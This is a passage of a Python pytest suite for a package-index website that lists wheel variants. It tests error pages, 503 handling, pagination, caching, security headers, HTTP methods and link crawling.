            (b"{", "some-1.0-variants.json cannot be used"),
            (b'{"$schema": "https://x.example/9"}', "some-1.0-variants.json cannot be used"),
            (json.dumps(OTHER).encode(), "v3: ignored, no metadata can be read"),
        ],
    )
    def test_invalid_documents(self, tmp_path: Path, document: bytes, says: str) -> None:
        """F-136: an invalid document is shown with the reason, and plain wheels are usable."""
        index = MemoryIndex()
        index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
        name = "some-1.0-py3-none-any-v3.whl"
        index.add("some", File(name, url_of(name)))
        index.add_document("some", "some-1.0-variants.json", document)
        page = read(Site(index), "/project/some/1.0/")
        assert "This release has problems" in page.text
        assert says in page.text
        assert "never chosen" in page.text
        answer = read(Site(index), "/project/some/1.0/which/?preset=linux-x86_64")
        assert "linux-x86_64 gets the plain wheel" in answer.text

    def test_missing_files(self, tmp_path: Path) -> None:
        """A missing wheel is still listed."""
        index = MemoryIndex()
        for label in ("v3", None):
            index.add_wheel(build_wheel(tmp_path, "some", "1.0", label=label, document=DOCUMENT))
        index.add_document("some", "some-1.0-variants.json", DOCUMENT)
        for name in list(index.contents):
            if name.endswith((".whl", ".metadata")):
                del index.contents[name]
        site = Site(index)
        page = read(site, "/project/some/1.0/")
        assert "needs x86-64-v3" in page.text
        assert "the listed file is missing" in page.text
        answer = read(site, "/project/some/1.0/which/?preset=cpu-x86_64-v3")
        assert "cpu-x86_64-v3 gets v3" in answer.text
        assert "the metadata of the chosen wheel is ignored" in answer.text

    def test_no_wheel_is_opened(self, tmp_path: Path) -> None:
        """F-77: remote wheels are not opened for their metadata."""
        index = MemoryIndex()
        for label in ("v3", None):
            file = index.add_wheel(
                build_wheel(tmp_path, "some", "1.0", label=label, document=DOCUMENT)
            )
            del index.contents[f"{file.filename}.metadata"]
            name = file.filename
            index.contents[name] = Content(1, "", lambda *_: pytest.fail("a wheel is read"))
        index.pages["some"] = tuple(
            File(file.filename, file.url, file.hashes) for file in index.pages["some"]
        )
        site = Site(index)
        page = read(site, "/project/some/1.0/")
        assert "no metadata can be read without fetching the whole wheel" in page.text
        assert "an index does not fetch wheels for its pages" in page.text
        answer = read(site, "/project/some/1.0/which/?preset=linux-x86_64")
        assert "linux-x86_64 gets the plain wheel" in answer.text

    def test_invalid_wheels(self, tmp_path: Path) -> None:
        """An invalid wheel has no details."""
        (tmp_path / "some-1.0-py3-none-any-v3.whl").write_bytes(b"no archive")
        site = Site(FolderIndex(tmp_path))
        assert "This release has problems" in read(site, "/project/some/1.0/").text
        assert "gets nothing" in read(site, "/project/some/1.0/which/?preset=linux-x86_64").text

    @pytest.mark.parametrize("error", [StorageUnavailable("no database"), Unreachable("no answer")])
    def test_unavailable_index(self, error: Exception) -> None:
        """An unavailable index gives 503, and the next request works."""
        index = MemoryIndex()
        index.add("some")
        site = Site(index)
        index.error = error
        assert str(error) in read(site, "/project/some/", 503).text
        assert str(error) in read(site, "/project/some/1.0/else/", 503).text
        index.error = None
        assert "some" in read(site, "/").text

    def test_unavailable_metadata(self, tmp_path: Path) -> None:
        """METADATA that cannot be read for the moment is not missing later."""
        index = MemoryIndex(stamped=True)
        path = build_wheel(tmp_path, "some", "1.0", metadata_extra=[("Summary", "short text")])
        index.add_wheel(path)
        site = Site(index)
        index.content = Mock(side_effect=StorageUnavailable("no answer"))  # type: ignore[method-assign]
        assert "no answer" in read(site, "/project/some/1.0/", 503).text
        del index.content
        assert "short text" in read(site, "/project/some/1.0/").text


class TestManyEntries:
    """Thousands of releases and variants."""

    def test_variants(self) -> None:
        """Thousands of variants are paginated."""
        site = Site(many_variants(3_000))
        page = read(site, "/project/many/1.0/")
        assert "1 to 100 of 3000 builds" in page.text
        assert "There are too many wheels to evaluate every machine." in page.text
        assert len(body(ask(site, "/project/many/1.0/"))) < 1 << 19
        last = read(site, "/project/many/1.0/?page=30&files=12")
        assert "2901 to 3000 of 3000 builds" in last.text
        assert "?page=29&files=12#variants" in last.links
        answer = read(site, "/project/many/1.0/which/?preset=cuda-12.8-sm90&page=3")
        assert "401 to 600 of 3000 wheels" in answer.text
        assert "?preset=cuda-12.8-sm90&page=4#verdicts" in answer.links

    def test_releases(self) -> None:
        """Thousands of releases are paginated."""
        index = MemoryIndex(stamped=True)
        names = (f"some-{number}-py3-none-any.whl" for number in range(2_000))
        index.add("some", *(File(name, url_of(name)) for name in names))
        page = read(Site(index), "/project/some/?page=2")
        assert "101 to 200 of 2000 releases" in page.text
        assert "1800" in page.text

    @pytest.mark.parametrize("number", ["0", "-1", "999999999999", "x", "²", "1e3", ""])
    def test_invalid_page_numbers(self, site: Site, number: str) -> None:
        """An invalid page number gives the nearest page."""
        assert "fast-fft" in read(site, f"/?page={number}").text

    def test_cached_pages(self, index: MemoryIndex) -> None:
        """A page is not computed again while the project's stamp is unchanged."""
        site = Site(index)
        first = body(ask(site, "/project/fast-fft/2.1/"))
        pages, index.pages = index.pages, dict.fromkeys(index.pages, ())
        counts = {name: len(files) for name, files in pages.items()}
        stamp, index.stamp = index.stamp, counts.get  # type: ignore[method-assign,assignment]
        try:
            assert body(ask(site, "/project/fast-fft/2.1/")) == first
        finally:
            index.pages, index.stamp = pages, stamp  # type: ignore[method-assign]


class TestResponses:
    """Headers and methods."""

    @pytest.mark.parametrize(
        "target", ["/", "/site.css", "/nothing", "/project/x", "/project/fast-fft/", f"{WHICH}?a=b"]
    )
    def test_security_headers(self, site: Site, target: str) -> None:
        """Every response forbids scripts, frames and content sniffing."""
        headers = ask(site, target).headers
        policy = headers["content-security-policy"]
        assert policy.startswith(
            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'"
        )
        assert "frame-ancestors 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"

    def test_unchanged_pages(self, site: Site) -> None:
        """An unchanged page gives 304."""
        etag = ask(site, "/project/fast-fft/").headers["etag"]
        again = ask(site, "/project/fast-fft/", headers={"if-none-match": etag})
        assert (again.status, body(again)) == (304, b"")

    def test_methods(self, site: Site) -> None:
        """Only GET and HEAD are allowed."""
        assert ask(site, "/", "DELETE").status == 405
        assert ask(site, "/project/fast-fft/", "POST").status == 405
        assert ask(site, "/", "HEAD").length == ask(site, "/").length

    def test_style_sheet(self, site: Site) -> None:
        """The style sheet loads nothing else."""
        answer = ask(site, "/site.css")
        assert answer.headers["content-type"] == "text/css; charset=utf-8"
        assert b"url(" not in body(answer)
        assert b"@import" not in body(answer)

    @pytest.mark.integration
    def test_links_between_pages(self, site: Site) -> None:
        """Every link from the front page works."""
        from urllib.parse import urljoin, urlsplit

        seen: set[str] = set()
        open_ = ["http://x/"]
        while open_:
            url = open_.pop()
            if url in seen or len(seen) > 200:
                continue
            seen.add(url)
            parts = urlsplit(url)
            if parts.netloc != "x" or parts.path.startswith(("/simple/", "/files/", "/site.css")):
                continue
            answer = ask(site, f"{parts.path}?{parts.query}")
            assert answer.status == 200, url
            open_ += [urljoin(url, link).partition("#")[0] for link in Document(body(answer)).links]
        assert len(seen) > 40
